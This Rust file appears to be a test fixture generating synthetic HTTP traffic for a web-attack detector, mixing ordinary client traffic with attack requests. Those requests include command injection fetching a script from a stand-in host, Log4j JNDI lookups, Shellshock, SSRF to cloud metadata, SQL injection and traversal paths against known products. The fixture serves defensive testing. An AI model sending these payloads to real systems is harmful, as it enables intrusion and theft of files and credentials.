//! The golden cases of issue 33: payloads decoded as servers decode them,
//! product and exploit paths (one answered 200), clients hostile by
//! construction (a scanner served 200 throughout, malformed request lines,
//! proxy attempts), and a corpus of ordinary traffic that must stay quiet
//! (sync clients, single-page apps, mobile retries, monitors, crawlers, an
//! office behind one address, searches with quotes). Attackers use the
//! documentation ranges; ordinary clients private ones.

use crate::traffic::*;

/// One attacker address a payload class, so that each class is a finding
/// of its own (the detector cools down per client and category).
pub fn injection_decoded(rng: &mut Rng, out: &mut Vec<Req>) {
    ordinary(rng, T0, 12, 30, out);
    let probes = [
        // Command chaining, with and without encoding and ${IFS}.
        ("192.0.2.101", "/api/v1/diag/ping?host=127.0.0.1%3Bwget%20http%3A%2F%2F198.51.100.250%2Fx.sh"),
        ("192.0.2.101", "/api/v1/diag/ping?host=1%7Ccat%24%7BIFS%7D%2Fetc%2Fpasswd"),
        // PHP callable injection (ThinkPHP).
        (
            "192.0.2.102",
            "/index.php?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x",
        ),
        // Spring4Shell class-loader binding.
        ("192.0.2.103", "/api/v1/products?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
        // Template and OGNL expressions.
        ("192.0.2.104", "/api/v1/search?q=%24%7B7*7%7D"),
        ("192.0.2.104", "/api/v1/search?q=%7B%7B7*%277%27%7D%7D"),
        // Tomcat path parameter traversal and overlong UTF-8.
        ("192.0.2.105", "/api/v1/files/..;/..;/manager/html"),
        ("192.0.2.105", "/api/v1/files/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/hosts"),
        // Double-encoded backslash traversal.
        ("192.0.2.106", "/api/v1/files?name=..%255c..%255cwindows%255cwin.ini"),
        // Server-side include.
        ("192.0.2.107", "/api/v1/search?q=%3C!--%23exec%20cmd=%22id%22--%3E"),
        // Response splitting.
        ("192.0.2.108", "/api/v1/login?next=%2F%0D%0ASet-Cookie:%20session=x"),
        // SSRF to the cloud's metadata service.
        ("192.0.2.109", "/api/v1/preview?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
        // Quote tautology without spaces.
        ("192.0.2.110", "/api/v1/login?user=admin%27OR%27a%27=%27a"),
        // Script through HTML entities.
        ("192.0.2.111", "/api/v1/search?q=%26lt%3Bscript%26gt%3Balert(1)"),
        // Nested Log4j lookup in the query.
        ("192.0.2.112", "/api/v1/search?q=%24%7B%24%7Blower:j%7Dndi:ldap:%2F%2F198.51.100.250%2Fa%7D"),
    ];
    for (i, (ip, p)) in probes.iter().enumerate() {
        let t = (T0 + 2 * HOUR + i as u64 * 7) as f64;
        out.push(Req::new(t, ip, "GET", p, library("python-requests/2.31.0"), 400));
    }
}

/// Payloads in header values (packets carry them; logs name only the user
/// agent). Credential headers (Cookie, Authorization) are never kept, so
/// none is sent there.
pub fn injection_headers(rng: &mut Rng, out: &mut Vec<Req>) {
    ordinary(rng, T0, 6, 15, out);
    let t = (T0 + HOUR) as f64;
    let h = || library("curl/8.5.0");
    out.push(
        Req::new(t, "203.0.113.121", "GET", "/api/v1/products", h(), 200)
            .header("X-Api-Version", "${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.250/a}"),
    );
    out.push(
        Req::new(t + 30.0, "203.0.113.122", "GET", "/api/v1/products", h(), 200)
            .header("Referer", "${jndi:dns://198.51.100.250/r}"),
    );
    out.push(Req::new(
        t + 60.0,
        "203.0.113.123",
        "GET",
        "/cgi-bin/status",
        library("() { :; }; /bin/bash -c 'id'"),
        404,
    ));
    out.push(
        Req::new(t + 90.0, "203.0.113.124", "GET", "/api/v1/account", h(), 401)
            .header("Referer", "https://www.example.com/?id=1%27%20AND%20SLEEP(5)--%20"),
    );
}

/// Product probes and exploit paths; one answered 200 (it may have
/// worked), and a WordPress site's own user at /wp-login.php served.
pub fn product_probes(rng: &mut Rng, out: &mut Vec<Req>) {
    ordinary(rng, T0, 12, 30, out);
    let exploits = [
        ("198.51.100.131", "/Telerik.Web.UI.WebResource.axd?type=rau", 404),
        ("198.51.100.132", "/pages/createpage-entervariables.action?SpaceKey=x", 404),
        ("198.51.100.132", "/setup/setupadministrator.action", 404),
        ("198.51.100.133", "/ssl-vpn/hipreport.esp", 404),
        ("198.51.100.134", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", 404),
        ("198.51.100.135", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", 404),
        ("198.51.100.135", "/mgmt/tm/util/bash", 401),
        ("198.51.100.136", "/vpn/../vpns/cfg/smb.conf", 404),
        ("198.51.100.137", "/s/x/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties", 404),
        ("198.51.100.138", "/developmentserver/metadatauploader", 404),
        ("198.51.100.139", "/bin/querybuilder.json?path=/home&p.hits=full", 404),
        ("198.51.100.140", "/_ignition/execute-solution", 405),
        ("198.51.100.141", "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php", 404),
        ("198.51.100.142", "/w00tw00t.at.ISC.SANS.DFind:)", 400),
    ];
    for (i, (ip, p, status)) in exploits.iter().enumerate() {
        let t = (T0 + 2 * HOUR + i as u64 * 11) as f64;
        out.push(Req::new(t, ip, "GET", p, library("Go-http-client/1.1"), *status));
    }
    // The worst case: PHPUnit's eval-stdin answered 200.
    let t = (T0 + 3 * HOUR) as f64;
    out.push(Req::new(
        t,
        "203.0.113.143",
        "POST",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        library("python-requests/2.31.0"),
        200,
    ));
    // Web shells and phpinfo from one scripted browser.
    for (i, p) in
        ["/shell.php", "/wso.php", "/phpinfo.php", "/info.php", "/index.php.bak", "/db.sql"].iter().enumerate()
    {
        let t = (T0 + 4 * HOUR + i as u64 * 3) as f64;
        out.push(Req::new(t, "203.0.113.144", "GET", p, script_as_browser(CHROME_WIN), 404));
    }
    // Plain WordPress probes, refused, on an API that is not WordPress.
    for (i, p) in ["/wp-login.php", "/xmlrpc.php"].iter().enumerate() {
        let t = (T0 + 5 * HOUR + i as u64 * 2) as f64;
        out.push(Req::new(t, "203.0.113.145", "GET", p, library("curl/7.68.0"), 404));
    }
    // The site's own editor, served at its WordPress login: not a probe.
    for k in 0..4u64 {
        let t = (T0 + 6 * HOUR + k * 900) as f64;
        out.push(Req::new(t, "10.40.0.7", "GET", "/wp-login.php", browser(FIREFOX_LINUX), 200).user("editor"));
        out.push(Req::new(t + 5.0, "10.40.0.7", "POST", "/wp-login.php", browser(FIREFOX_LINUX), 302).user("editor"));
    }
}

/// Scanners answered 200 throughout, malformed request lines, proxy
/// attempts; and a browser's unused preconnect (`"-" 408`), which is not.
pub fn hostile(rng: &mut Rng, out: &mut Vec<Req>) {
    ordinary(rng, T0, 12, 30, out);
    let t0 = T0 + 2 * HOUR;
    let nuclei = "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))";
    for (i, p) in ["/", "/api/v1/products", "/api/v1/products/101"].iter().enumerate() {
        out.push(Req::new((t0 + i as u64) as f64, "198.51.100.151", "GET", p, library(nuclei), 200));
    }
    let zgrab = "Mozilla/5.0 zgrab/0.x";
    out.push(Req::new((t0 + 60) as f64, "198.51.100.152", "GET", "/", library(zgrab), 200));
    let lines: [(&str, &str); 6] = [
        ("198.51.100.153", "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03"),
        ("198.51.100.154", "GET / HTTP/9.9"),
        ("198.51.100.155", "GET /api/v1/products?q=a b HTTP/1.1"),
        ("198.51.100.156", "GET /api/v1/products"),
        ("198.51.100.157", "SSH-2.0-Go"),
        ("2001:db8:15::8", "MGLNDD_192.0.2.1_80"),
    ];
    for (i, (ip, line)) in lines.iter().enumerate() {
        let t = (t0 + 120 + i as u64 * 13) as f64;
        out.push(Req::new(t, ip, "GET", "/", no_user_agent(), 400).line(line));
    }
    out.push(
        Req::new((t0 + 300) as f64, "203.0.113.158", "CONNECT", "www.example.org:443", library("curl/8.5.0"), 405)
            .line("CONNECT www.example.org:443 HTTP/1.1"),
    );
    out.push(Req::new(
        (t0 + 330) as f64,
        "203.0.113.159",
        "GET",
        "http://www.example.org/",
        library("Go-http-client/1.1"),
        200,
    ));
    // An ordinary user's browser opened a connection and never used it.
    out.push(Req::new((t0 + 400) as f64, "10.20.0.9", "GET", "/", no_user_agent(), 408).line("-"));
}

/// Ordinary traffic that must stay quiet: no threat among its actors.
pub fn quiet_clients(rng: &mut Rng, out: &mut Vec<Req>) {
    ordinary(rng, T0, 24, 60, out);
    let dav = "DAVx5/4.3.13-ose (2024/05/01; dav4jvm; okhttp/4.12.0) Android/14";
    // A CalDAV client's first sync: PROPFIND and REPORT, many 404s for
    // collections the server does not have.
    let mut t = (T0 + HOUR) as f64;
    for k in 0..40u64 {
        let (m, p, s) = match k % 4 {
            0 => ("PROPFIND", "/dav/calendars/user0042/".to_string(), 207),
            1 => ("PROPFIND", format!("/dav/calendars/user0042/cal{k}/"), 404),
            2 => ("REPORT", "/dav/calendars/user0042/personal/".to_string(), 207),
            _ => ("PROPFIND", "/.well-known/caldav".to_string(), 404),
        };
        out.push(Req::new(t, "10.30.0.42", m, &p, library(dav), s).user("user0042"));
        t += 2.0;
    }
    // A single-page app after a deploy: old chunks and source maps 404.
    let mut t = (T0 + 2 * HOUR) as f64;
    for k in 0..12u64 {
        let p = match k % 3 {
            0 => format!("/static/js/chunk-{k}.js"),
            1 => "/static/js/app.js.map".to_string(),
            _ => format!("/static/css/main.{k}.css.map"),
        };
        out.push(Req::new(t, "10.30.0.50", "GET", &p, browser(CHROME_WIN), 404));
        t += 1.5;
    }
    // A mobile app retrying a 401 after its token expired, then logging in.
    let mut t = (T0 + 3 * HOUR) as f64;
    for _ in 0..6 {
        out.push(Req::new(t, "10.30.0.60", "GET", "/api/v1/orders", library(ANDROID_APP), 401).user("user0060"));
        t += 4.0;
    }
    out.push(Req::new(t, "10.30.0.60", "POST", "/api/v1/login", library(ANDROID_APP), 200).user("user0060"));
    // Health checks from the load balancer, and an uptime monitor.
    let mut t = T0 as f64;
    while t < (T0 + 24 * HOUR) as f64 {
        out.push(Req::new(t, "10.0.0.2", "GET", "/healthz", library("ELB-HealthChecker/2.0"), 200));
        t += 30.0;
    }
    let mut t = (T0 + 100) as f64;
    while t < (T0 + 24 * HOUR) as f64 {
        let ua = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)";
        out.push(Req::new(t, "198.51.100.170", "HEAD", "/", library(ua), 200));
        t += 300.0;
    }
    // Googlebot, with its 404s for pages that moved.
    let gb = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    let mut t = (T0 + 5 * HOUR) as f64;
    for k in 0..30u64 {
        let (p, s) = match k % 5 {
            0 => ("/robots.txt".to_string(), 404),
            1 => ("/sitemap.xml".to_string(), 404),
            2 => (format!("/docs/old-page-{k}"), 404),
            _ => (format!("/api/v1/products/{}", 100 + k), 200),
        };
        out.push(Req::new(t, "198.51.100.171", "GET", &p, library(gb), s));
        t += 20.0;
    }
    // An office of forty behind one address, each with its own browser.
    let agents = [CHROME_WIN, FIREFOX_LINUX, SAFARI_IOS_14, ANDROID_APP];
    let mut t = (T0 + 6 * HOUR) as f64;
    for u in 0..40u32 {
        let ua = agents[u as usize % agents.len()];
        let ua = format!("{ua} Office/{u}");
        for k in 0..5u64 {
            let (p, s) = if k == 4 {
                ("/api/v1/orders/1".to_string(), 403)
            } else {
                (format!("/api/v1/products/{}", 100 + u), 200)
            };
            out.push(Req::new(t, "203.0.113.200", "GET", &p, browser(&ua), s).user(&format!("office{u}")));
            t += 3.0;
        }
    }
    // A busy API's searches: quotes, `<`, ampersands, JSON filters, price
    // templates, email addresses, a file with two dots, an OAuth redirect
    // to a native app's loopback listener.
    let searches = [
        "/api/v1/search?q=O%27Brien",
        "/api/v1/search?q=a%3Cb",
        "/api/v1/search?q=rock+%26+roll",
        "/api/v1/search?q=C%23+and+1%2B1",
        "/api/v1/search?q=dogs+%7C+cat+food",
        "/api/v1/search?q=kids%3B+sleep+tips",
        "/api/v1/search?filter=%7B%22price%22%3A%7B%22lt%22%3A5%7D%7D",
        "/api/v1/render?tpl=Price%3A%20%24%7Bamount%7D%20incl.%20%24%7Btax%7D",
        "/api/v1/users?email=ann.o%27neil%40example.com",
        "/api/v1/files/report..final.txt",
        "/oauth/authorize?client_id=cli&redirect_uri=http%3A%2F%2F127.0.0.1%3A8123%2Fcallback",
        "/api/v1/search?q=Jones%27+or+Smith+%3Cb%3E",
    ];
    let mut t = (T0 + 8 * HOUR) as f64;
    for (i, p) in searches.iter().enumerate() {
        let ip = format!("10.31.0.{}", i + 1);
        out.push(Req::new(t, &ip, "GET", p, browser(CHROME_WIN), 200).user(&format!("searcher{i}")));
        t += 17.0;
    }
}
